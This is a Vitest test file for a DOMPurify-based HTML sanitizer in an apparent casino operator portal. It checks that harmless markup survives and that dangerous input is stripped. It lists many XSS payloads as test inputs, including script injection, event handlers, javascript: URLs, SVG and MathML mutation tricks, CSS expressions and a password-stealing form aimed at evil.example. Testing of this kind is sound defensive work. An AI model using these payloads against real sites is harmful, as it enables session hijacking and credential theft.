import DOMPurify from 'isomorphic-dompurify';
import { describe, expect, it } from 'vitest';
import { createHtmlSanitizer } from '@casino/contracts/sanitize-html';
import { operatorHtmlToStore } from '../src/lib/operator-html.ts';

/**
 * The operator HTML policy of packages/contracts on the server's DOM (jsdom through
 * isomorphic-dompurify), against the classic XSS vectors. Every vector must come out unable to run
 * code, load a foreign frame or send a form; harmless markup must come out as it went in.
 */
const sanitize = createHtmlSanitizer(DOMPurify);

/** Nothing in the output can run script or navigate to a script URL. */
function expectInert(html: string): void {
  const out = sanitize(html);
  expect(out, html).not.toMatch(
    /<script|<iframe|<frame|<object|<embed|<form|<input|<button|<textarea|<select|<svg|<math|<style|<base|<meta|<link|<template/i,
  );
  expect(out, html).not.toMatch(/\son[a-z]+\s*=/i);
  expect(out, html).not.toMatch(/javascript:|vbscript:|data:/i);
  expect(out, html).not.toMatch(/expression\s*\(|url\s*\(|@import|-moz-binding|behavior\s*:/i);
}

describe('operator HTML sanitizer', () => {
  it('removes scripts in every spelling', () => {
    for (const html of [
      '<script>alert(1)</script>',
      '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
      '<scr<script>ipt>alert(1)</script>',
      '<<script>alert(1);//<</script>',
      '<script/xss src="https://evil.example/x.js"></script>',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    ]) {
      expectInert(html);
    }
    expect(sanitize('<p>hi</p><script>alert(1)</script>')).toBe('<p>hi</p>');
  });

  it('removes every event handler attribute', () => {
    for (const html of [
      '<img src="/img/a.png" onerror="alert(1)">',
      '<body onload=alert(1)>',
      '<div onmouseover="alert(1)">x</div>',
      '<a href="/x" onclick="alert(1)">x</a>',
      '<details open ontoggle=alert(1)>',
      '<video><source onerror="alert(1)"></video>',
      '<p ONCLICK=alert(1)>x</p>',
      '<marquee onstart=alert(1)>x</marquee>',
    ]) {
      expectInert(html);
    }
    expect(sanitize('<img src="/img/a.png" onerror="alert(1)">')).toBe('<img src="/img/a.png">');
  });

  it('removes javascript:, vbscript: and data: URLs however they are written', () => {
    for (const html of [
      '<a href="javascript:alert(1)">x</a>',
      '<a href="JaVaScRiPt:alert(1)">x</a>',
      '<a href="  javascript:alert(1)">x</a>',
      '<a href="java\tscript:alert(1)">x</a>',
      '<a href="java&#x09;script:alert(1)">x</a>',
      '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
      '<a href="vbscript:msgbox(1)">x</a>',
      '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
      '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
      '<img src="javascript:alert(1)">',
      '<a href="javascript&colon;alert(1)">x</a>',
    ]) {
      expectInert(html);
    }
    expect(sanitize('<a href="javascript:alert(1)">x</a>')).toBe('<a>x</a>');
  });

  it('keeps images only from this server or https', () => {
    expect(sanitize('<img src="/uploads/banner.png" alt="b">')).toBe(
      '<img src="/uploads/banner.png" alt="b">',
    );
    expect(sanitize('<img src="https://cdn.example/a.png">')).toBe('<img src="https://cdn.example/a.png">');
    for (const src of [
      'http://cdn.example/a.png',
      '//evil.example/a.png',
      '/\\evil.example/a.png',
      'ftp://x/a.png',
      'data:image/png;base64,AAAA',
    ]) {
      expect(sanitize(`<img src="${src}">`), src).toBe('<img>');
    }
    // srcset could name any host.
    expect(sanitize('<img src="/a.png" srcset="http://evil.example/a.png 2x">')).toBe('<img src="/a.png">');
  });

  it('removes frames, objects and forms', () => {
    for (const html of [
      '<iframe src="https://evil.example"></iframe>',
      '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
      '<frameset><frame src="https://evil.example"></frameset>',
      '<object data="https://evil.example/x.swf"></object>',
      '<embed src="https://evil.example/x.swf">',
      '<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>',
      '<button formaction="javascript:alert(1)">x</button>',
      '<isindex action="javascript:alert(1)" type=image>',
      '<base href="https://evil.example/">',
      '<meta http-equiv="refresh" content="0;url=https://evil.example">',
      '<link rel="stylesheet" href="https://evil.example/x.css">',
    ]) {
      expectInert(html);
    }
    expect(
      sanitize('<form action="https://evil.example/steal"><p>Sign in</p><input name="password"></form>'),
    ).toBe('<p>Sign in</p>');
  });

  it('removes SVG and MathML tricks', () => {
    for (const html of [
      '<svg onload=alert(1)>',
      '<svg><script>alert(1)</script></svg>',
      '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
      '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
      '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
      '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
      '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    ]) {
      expectInert(html);
    }
  });

  it('removes CSS that could load or run something, keeps plain inline styles', () => {
    for (const style of [
      'width: expression(alert(1))',
      'background: url(javascript:alert(1))',
      'background-image: url("https://evil.example/track.png")',
      'behavior: url(x.htc)',
      '-moz-binding: url(https://evil.example/x.xml#x)',
      'background: \\75 rl(https://evil.example)',
      'width: ex/**/pression(alert(1))',
      'background-image: image-set("https://evil.example/a.png" 1x)',
    ]) {
      const out = sanitize(`<p style="${style.replace(/"/g, '&quot;')}">x</p>`);
      expect(out, style).toBe('<p>x</p>');
    }
    expect(sanitize('<style>@import "https://evil.example/x.css";</style><p>x</p>')).toBe('<p>x</p>');
    expect(sanitize('<p style="color: red; font-weight: bold; text-align: center">x</p>')).toBe(
      '<p style="color: red; font-weight: bold; text-align: center">x</p>',
    );
  });

  it('keeps inline styles to properties and values that cannot take over the page (issue 22)', () => {
    const styleOf = (style: string) =>
      /^<p(?: style="([^"]*)")?>x<\/p>$/.exec(
        sanitize(`<p style="${style.replace(/"/g, '&quot;')}">x</p>`),
      )?.[1] ?? null;
    // The popup that covered every page, its close button included, and the help answer that covered the console.
    const overlay =
      'position: fixed; z-index: 2147483647; top: 0; left: 0; width: 100vw; height: 100vh; background: #000; color: #fff';
    expect(styleOf(overlay)).toBe('background: #000; color: #fff');
    for (const [style, kept] of [
      // Uppercase, odd spacing, several declarations, empty ones.
      ['POSITION: FIXED; Z-INDEX: 2147483647; COLOR: RED', 'color: red'],
      ['position:fixed;;;color:red;', 'color: red'],
      ['color:red;position\n:\nfixed', 'color: red'],
      ['  Position :Absolute ; Top:0 ; Left : 0 ; Text-Align : Center ', 'text-align: center'],
      // !important is dropped with whatever it was on when that goes; on a harmless value the flag goes.
      ['position: fixed !important; z-index: 9 !important', null],
      ['color: red !important; font-weight: bold ! IMPORTANT', 'color: red; font-weight: bold'],
      ['color: red !ie', null],
      // Anything that moves, stacks, transforms or sizes past the box.
      ['inset: 0', null],
      ['transform: scale(100)', null],
      ['translate: 0 -100vh', null],
      ['-webkit-transform: translate(0, 0)', null],
      ['display: none', null],
      ['visibility: hidden', null],
      ['opacity: 0', null],
      ['pointer-events: none', null],
      ['clip-path: inset(0)', null],
      ['filter: blur(9px)', null],
      ['animation: spin 1s infinite', null],
      ['content: "x"', null],
      ['height: 100vh', null],
      ['min-height: 10000px', null],
      ['width: 10000px', null],
      ['width: 100vw', null],
      ['width: calc(100% + 9999px)', null],
      ['width: 150%', null],
      ['max-width: 5000px', null],
      ['margin: -9999px', null],
      ['margin-top: -100px', null],
      ['margin: 0 0 0 -1px', null],
      ['padding: 5000px', null],
      ['font-size: 900px', null],
      ['font-size: 50vw', null],
      ['line-height: 1000', null],
      ['border: 9999px solid red', null],
      ['--x: fixed; position: var(--x)', null],
      ['color: var(--x)', null],
      ['color: attr(title)', null],
      ['background-color: red; background: url(/a.png)', 'background-color: red'],
      ['background: red url(/a.png)', null],
      ['font-family: "x;position:fixed"', null],
      // Kept: colour, alignment, bounded sizes and spacing, percentage widths, simple borders.
      [
        'color: #C00; background-color: rgba(0, 0, 0, 0.5); text-align: justify',
        'color: #c00; background-color: rgba(0, 0, 0, 0.5); text-align: justify',
      ],
      [
        'font-size: 18px; font-weight: 700; font-style: italic',
        'font-size: 18px; font-weight: 700; font-style: italic',
      ],
      [
        'text-decoration: underline dotted red; line-height: 1.6',
        'text-decoration: underline dotted red; line-height: 1.6',
      ],
      ['margin: 0 auto; padding: 8px 1em', 'margin: 0 auto; padding: 8px 1em'],
      ['width: 50%; max-width: 100%', 'width: 50%; max-width: 100%'],
      ['border: 1px solid #ddd; border-radius: 4px', 'border: 1px solid #ddd; border-radius: 4px'],
      [
        "font-family: 'Malgun Gothic', 맑은 고딕, sans-serif",
        "font-family: 'Malgun Gothic', 맑은 고딕, sans-serif",
      ],
    ] as const) {
      expect(styleOf(style), style).toBe(kept);
    }
    // Escapes and comments can spell any property or value: such a style goes whole.
    for (const style of [
      'posit\\ion: fixed; color: red',
      'position: fi\\78 ed; color: red',
      'pos/**/ition: fixed; color: red',
      'position: /* x */ fixed; color: red',
      'z-index/**/: 9; color: red',
      'color: red; \\7a-index: 9',
    ]) {
      expect(styleOf(style), style).toBeNull();
    }
    // Nor through the page's own rules: no class (the portal's modal-overlay is fixed over the page), no popover.
    expect(sanitize('<div class="modal-overlay" popover="manual"><p class="x">x</p></div>')).toBe(
      '<div><p>x</p></div>',
    );
    // Entities are decoded before the policy sees the value.
    expect(sanitize('<p style="position&#58;fixed;color&#x3a;red">x</p>')).toBe(
      '<p style="color: red">x</p>',
    );
  });

  it('stores operator HTML with the same style rules (operatorHtmlToStore)', async () => {
    expect(
      await operatorHtmlToStore(
        '<div style="position:fixed;inset:0;z-index:2147483647;background:#000">' +
          '<p style="COLOR:RED;transform:scale(50)">win</p></div>',
        'contents',
      ),
    ).toBe('<div style="background: #000"><p style="color: red">win</p></div>');
  });

  it('keeps harmless markup, text and links; new-window links get noopener', () => {
    const html =
      '<h2>공지</h2><p>Welcome <strong>back</strong>, <em>friend</em> &amp; 友達</p><ul><li>one</li><li>two</li></ul>' +
      '<table><tbody><tr><td>1</td></tr></tbody></table><br><span style="color: #c00">red</span>';
    expect(sanitize(html)).toBe(html);
    expect(sanitize('<a href="/event/1">event</a>')).toBe('<a href="/event/1">event</a>');
    expect(sanitize('<a href="https://example.org" target="_blank">x</a>')).toBe(
      '<a href="https://example.org" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(sanitize('<a href="/x" target="_top">x</a>')).toBe('<a href="/x">x</a>');
    expect(sanitize('<a href="mailto:help@example.org">mail</a>')).toBe(
      '<a href="mailto:help@example.org">mail</a>',
    );
    expect(sanitize('<p data-x="1" id="a">x</p>')).toBe('<p id="a">x</p>');
  });

  it('sanitizing twice changes nothing (stored HTML is rendered through the same policy)', () => {
    for (const html of [
      '<p style="color: red">x</p><img src="/a.png" onerror=alert(1)>',
      '<p style="COLOR:RED;position:fixed;margin:0 AUTO !important">x</p>',
      '<a href="https://e.org" target="_blank">x</a>',
    ]) {
      const once = sanitize(html);
      expect(sanitize(once)).toBe(once);
    }
  });
});
